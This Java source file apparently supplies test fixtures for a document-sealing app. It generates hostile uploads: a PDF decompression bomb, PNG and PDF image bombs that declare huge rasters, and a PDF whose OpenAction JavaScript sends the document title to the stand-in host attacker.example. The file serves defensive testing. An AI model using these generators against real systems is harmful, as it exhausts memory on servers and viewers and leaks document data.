package cn.certhall.app.sealing;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.zip.Adler32;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.graphics.color.PDDeviceRGB;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;

/** The hostile files an attacker sends, made as the attacker makes them. */
final class HostileFiles {
  private HostileFiles() {}

  /**
   * A PDF 1.5 of about 1.5 MB whose catalog sits in an object stream (FlateDecode) that inflates to
   * {@code inflated} bytes: the catalog, then spaces. Every reader must inflate it to find the
   * catalog, so it hits whatever opens the document (verification, materials, signing requests).
   */
  static byte[] decompressionBomb(long inflated) {
    String header = "1 0 ";
    String catalog = "<< /Type /Catalog /Pages 2 0 R >>";
    byte[] stream = zlibOfSpaces((header + catalog).getBytes(StandardCharsets.US_ASCII), inflated);

    ByteArrayOutputStream pdf = new ByteArrayOutputStream(stream.length + 1024);
    long[] offsets = new long[6];
    ascii(pdf, "%PDF-1.5\n%\u00e2\u00e3\u00cf\u00d3\n");
    offsets[2] = pdf.size();
    ascii(pdf, "2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n");
    offsets[3] = pdf.size();
    ascii(pdf, "3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n");
    offsets[4] = pdf.size();
    ascii(
        pdf,
        "4 0 obj\n<< /Type /ObjStm /N 1 /First "
            + header.length()
            + " /Filter /FlateDecode /Length "
            + stream.length
            + " >>\nstream\n");
    pdf.writeBytes(stream);
    ascii(pdf, "\nendstream\nendobj\n");
    offsets[5] = pdf.size();
    // the cross-reference stream: type 1 = at an offset, type 2 = inside object stream 4
    ByteArrayOutputStream xref = new ByteArrayOutputStream();
    DataOutputStream entries = new DataOutputStream(xref);
    try {
      entry(entries, 0, 0, 65535);
      entry(entries, 2, 4, 0);
      for (int n = 2; n <= 5; n++) {
        entry(entries, 1, offsets[n], 0);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    ascii(
        pdf,
        "5 0 obj\n<< /Type /XRef /Size 6 /W [1 4 2] /Root 1 0 R /Length "
            + xref.size()
            + " >>\nstream\n");
    pdf.writeBytes(xref.toByteArray());
    ascii(pdf, "\nendstream\nendobj\nstartxref\n" + offsets[5] + "\n%%EOF\n");
    return pdf.toByteArray();
  }

  /**
   * A zlib stream of {@code prefix} followed by spaces up to {@code total} bytes. Deflating 1.5 GB
   * takes seconds, so one MiB of spaces is deflated once after a full flush (which makes each block
   * independent of what came before) and its bytes repeated; the checksum is computed.
   */
  private static byte[] zlibOfSpaces(byte[] prefix, long total) {
    int block = 1 << 20;
    byte[] spaces = new byte[block];
    Arrays.fill(spaces, (byte) ' ');
    long blocks = (total - prefix.length) / block;
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
    ByteArrayOutputStream out = new ByteArrayOutputStream(2 << 20);
    out.write(0x78);
    out.write(0xda);
    Adler32 adler = new Adler32();
    try {
      out.writeBytes(deflate(deflater, prefix));
      adler.update(prefix);
      byte[] repeated = deflate(deflater, spaces);
      for (long i = 0; i < blocks; i++) {
        out.writeBytes(repeated);
        adler.update(spaces);
      }
      deflater.finish();
      byte[] buffer = new byte[64];
      while (!deflater.finished()) {
        out.write(buffer, 0, deflater.deflate(buffer));
      }
    } finally {
      deflater.end();
    }
    long check = adler.getValue();
    for (int shift = 24; shift >= 0; shift -= 8) {
      out.write((int) (check >>> shift) & 0xff);
    }
    return out.toByteArray();
  }

  private static byte[] deflate(Deflater deflater, byte[] input) {
    deflater.setInput(input);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    byte[] buffer = new byte[1 << 16];
    int n;
    while ((n = deflater.deflate(buffer, 0, buffer.length, Deflater.FULL_FLUSH)) > 0) {
      out.write(buffer, 0, n);
      if (n < buffer.length && deflater.needsInput()) {
        break;
      }
    }
    return out.toByteArray();
  }

  private static void entry(DataOutputStream out, int type, long field2, int field3)
      throws IOException {
    out.writeByte(type);
    out.writeInt((int) field2);
    out.writeShort(field3);
  }

  private static void ascii(ByteArrayOutputStream out, String s) {
    out.writeBytes(s.getBytes(StandardCharsets.ISO_8859_1));
  }

  /**
   * A PNG whose header says {@code side}×{@code side} RGB pixels, with an IDAT of a few kilobytes
   * (the first rows): a reader that trusts the header allocates the whole raster.
   */
  static byte[] pngBomb(int side) {
    ByteArrayOutputStream png = new ByteArrayOutputStream();
    png.writeBytes(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n'});
    ByteArrayOutputStream ihdr = new ByteArrayOutputStream();
    DataOutputStream h = new DataOutputStream(ihdr);
    ByteArrayOutputStream idat = new ByteArrayOutputStream();
    try {
      h.writeInt(side);
      h.writeInt(side);
      h.writeByte(8); // bit depth
      h.writeByte(2); // RGB
      h.writeByte(0);
      h.writeByte(0);
      h.writeByte(0);
      try (DeflaterOutputStream z =
          new DeflaterOutputStream(idat, new Deflater(Deflater.BEST_COMPRESSION))) {
        z.write(new byte[(side * 3 + 1) * 4]);
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    chunk(png, "IHDR", ihdr.toByteArray());
    chunk(png, "IDAT", idat.toByteArray());
    chunk(png, "IEND", new byte[0]);
    return png.toByteArray();
  }

  private static void chunk(ByteArrayOutputStream out, String type, byte[] data) {
    byte[] t = type.getBytes(StandardCharsets.US_ASCII);
    CRC32 crc = new CRC32();
    crc.update(t);
    crc.update(data);
    DataOutputStream d = new DataOutputStream(out);
    try {
      d.writeInt(data.length);
      d.write(t);
      d.write(data);
      d.writeInt((int) crc.getValue());
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /**
   * A one-page PDF showing an uncompressed image that declares {@code side}×{@code side} RGB pixels
   * with three bytes of data: a renderer (the seal app's preview) allocates the raster.
   */
  static byte[] pdfWithImageBomb(int side) {
    try (PDDocument doc = new PDDocument()) {
      PDPage page = new PDPage(PDRectangle.A4);
      doc.addPage(page);
      PDImageXObject image =
          new PDImageXObject(new PDStream(doc, new ByteArrayInputStream(new byte[3])), null);
      image.setWidth(side);
      image.setHeight(side);
      image.setBitsPerComponent(8);
      image.setColorSpace(PDDeviceRGB.INSTANCE);
      try (PDPageContentStream cs = new PDPageContentStream(doc, page)) {
        cs.drawImage(image, 72, 400, 200, 200);
      }
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      doc.save(out);
      return out.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** A one-page PDF whose catalog's OpenAction runs JavaScript when a viewer opens it. */
  static byte[] javascriptPdf() {
    try (PDDocument doc = new PDDocument()) {
      PDPage page = new PDPage(PDRectangle.A4);
      doc.addPage(page);
      try (PDPageContentStream cs = new PDPageContentStream(doc, page)) {
        cs.beginText();
        cs.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 14);
        cs.newLineAtOffset(72, 700);
        cs.showText("Business licence");
        cs.endText();
      }
      doc.getDocumentCatalog()
          .setOpenAction(
              new PDActionJavaScript(
                  "app.launchURL('https://attacker.example/?c=' + this.info.Title);"));
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      doc.save(out);
      return out.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }
}
